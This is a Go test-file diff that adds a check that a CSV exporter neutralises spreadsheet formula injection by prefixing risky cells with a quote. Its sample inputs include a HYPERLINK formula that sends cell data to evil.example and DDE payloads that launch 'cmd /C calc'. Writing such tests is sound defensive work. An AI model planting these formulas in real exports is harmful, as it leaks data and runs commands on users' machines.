@@ -3,6 +3,7 @@ package export
 import (
 	"bufio"
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"strings"
@@ -156,5 +157,59 @@ func TestWritePanics(t *testing.T) {
 	}
 	if werr != nil && !strings.HasPrefix(werr.Error(), "internal error: destination broke") {
 		t.Errorf("Write: %v, want nil or the internal error of the panic", werr)
+	}
+}
+
+// Text cells a spreadsheet would run as formulas are written as text (a
+// leading '); the numbers qvt writes itself are not touched.
+func TestCSVFormulaInjection(t *testing.T) {
+	r := rows(1)[0]
+	r.Shared = nil
+	r.Hostname = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	r.OS = "+cmd|' /C calc'!A0"
+	r.Title = "-2+3"
+	r.Results = "@SUM(1+1)*cmd|' /C calc'!A0"
+	r.Category = "\t=1+1"
+	r.Solution = "\r=1+1"
+	r.Diagnosis = "a = b, harmless"
+	r.VendorRefs = []string{"=1+2", "VENDOR-1"}
+	base := 7.5
+	r.Base = &base
+	r.HostID = 42
+	var out bytes.Buffer
+	w, err := New("csv", &out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Write(r); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for i, col := range recs[0] {
+		got[col] = recs[1][i]
+	}
+	for col, want := range map[string]string{
+		"hostname":    `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
+		"os":          "'+cmd|' /C calc'!A0",
+		"title":       "'-2+3",
+		"results":     "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"category":    "'\t=1+1",
+		"solution":    "'\r=1+1",
+		"diagnosis":   "a = b, harmless",
+		"vendor_refs": "'=1+2;VENDOR-1",
+		"base":        "7.5",
+		"host_id":     "42",
+		"key":         r.Key,
+	} {
+		if got[col] != want {
+			t.Errorf("%s = %q, want %q", col, got[col], want)
+		}
 	}
 }
